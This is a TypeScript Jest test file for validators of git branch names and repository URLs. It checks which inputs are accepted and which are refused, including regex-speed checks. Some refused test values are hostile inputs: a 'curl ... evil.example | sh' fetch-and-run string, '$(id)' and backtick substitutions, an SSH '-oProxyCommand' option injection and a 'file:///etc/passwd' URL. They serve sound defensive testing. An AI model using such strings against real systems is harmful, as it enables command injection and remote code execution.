import {
  BRANCH_NAME_PATTERN,
  isBranchName,
  isRepositoryUrl,
  REPOSITORY_URL_PATTERN,
} from './runSpecRules';

describe('branch names', () => {
  it.each([
    'main',
    'feature/login-form',
    'release/v1.2.3',
    'dependabot/npm_and_yarn/lodash-4.17.21',
    'fix+hotfix',
    'user@topic',
    'a',
    'x'.repeat(255),
  ])('accepts %j', name => {
    expect(isBranchName(name)).toBe(true);
  });

  it.each([
    // git check-ref-format --branch refuses these
    ['', 'empty'],
    ['a..b', '".."'],
    ['a@{1}', '"@{"'],
    ['@', 'a lone "@"'],
    ['-rf', 'a leading "-"'],
    ['/main', 'a leading "/"'],
    ['main/', 'a trailing "/"'],
    ['main.', 'a trailing "."'],
    ['.hidden', 'a leading "."'],
    ['a/.b', 'a component starting with "."'],
    ['main.lock', 'a trailing ".lock"'],
    ['a.lock/b', 'a component ending in ".lock"'],
    ['a//b', '"//"'],
    ['a~1', '"~"'],
    ['a^1', '"^"'],
    ['a:b', '":"'],
    ['a?b', '"?"'],
    ['a*b', '"*"'],
    ['a[b', '"["'],
    ['a\\b', 'a backslash'],
    ['a\u0001b', 'a control character'],
    ['a\u007fb', 'DEL'],
    // git accepts these, but they are shell syntax
    ['main;id', '";"'],
    ["x;curl$IFS-sL$IFS'evil.example'|sh", 'an injected command'],
    ['$(id)', '"$("'],
    ['a`id`', 'a backtick'],
    ['a|b', '"|"'],
    ['a&b', '"&"'],
    ['a"b', 'a double quote'],
    ["a'b", 'a single quote'],
    ['a b', 'a space'],
    ['a\tb', 'a tab'],
    ['a\nb', 'a newline'],
    ['a>b', 'a redirection'],
    ['a(b)', 'parentheses'],
    ['x'.repeat(256), 'more than 255 characters'],
  ])('refuses %j (%s)', name => {
    expect(isBranchName(name)).toBe(false);
  });

  it('is the same rule as the pattern a JSON Schema carries (ajv compiles patterns with "u")', () => {
    const pattern = new RegExp(BRANCH_NAME_PATTERN, 'u');
    for (const name of [
      'main',
      'a..b',
      'main;id',
      'feature/x',
      'x.lock',
      '-x',
    ]) {
      expect(pattern.test(name)).toBe(isBranchName(name));
    }
  });
});

describe('repository URLs', () => {
  it.each([
    'https://github.com/openchoreo/sample-workloads',
    'https://github.com/openchoreo/sample-workloads.git',
    'https://github.com/openchoreo/sample-workloads/',
    'http://gitea.local:3000/org/repo',
    'https://org@dev.azure.com/org/My%20Project/_git/repo',
    'git@github.com:openchoreo/sample-workloads.git',
    'git@gitlab.example.com:group/sub/repo',
  ])('accepts %j', url => {
    expect(isRepositoryUrl(url)).toBe(true);
  });

  it.each([
    'https://github.com/o/r;curl${IFS}-sL${IFS}evil.example|sh',
    'https://github.com/o/r`id`',
    'https://x/$(id)',
    'https://x/a b',
    'https://x/a"b',
    "https://x/a'b",
    'https://x/a\nb',
    'https://x/a&b',
    'https://x/a|b',
    'https://x/a\\b',
    'https://user:password@github.com/o/r',
    'https://github.com/o/r?ref=main',
    'https://github.com/o/r#main',
    'https://github.com',
    'https://-x/o/r',
    'https://x:99999999/o/r',
    'ftp://github.com/o/r',
    'file:///etc/passwd',
    'ssh://git@github.com/o/r',
    'git@github.com:-oProxyCommand=id',
    'git@-oProxyCommand=id:o/r',
    '-u git@github.com:o/r',
    'github.com/o/r',
    'not a url',
    '',
    `https://github.com/${'a'.repeat(2100)}`,
  ])('refuses %j', url => {
    expect(isRepositoryUrl(url)).toBe(false);
  });

  it('keeps the pattern usable as a JSON Schema pattern, and fast on long input', () => {
    const pattern = new RegExp(REPOSITORY_URL_PATTERN, 'u');
    expect(pattern.test('https://github.com/o/r')).toBe(true);
    expect(pattern.test('https://x/$(id)')).toBe(false);
    const started = Date.now();
    for (const long of [
      `https://${'a'.repeat(65536)}`,
      `git@${'a.'.repeat(32768)}`,
      `https://${'a-'.repeat(32768)}!`,
    ]) {
      expect(pattern.test(long)).toBe(false);
    }
    expect(
      new RegExp(BRANCH_NAME_PATTERN, 'u').test(`${'a/'.repeat(32768)}.`),
    ).toBe(false);
    expect(Date.now() - started).toBeLessThan(500);
  });
});
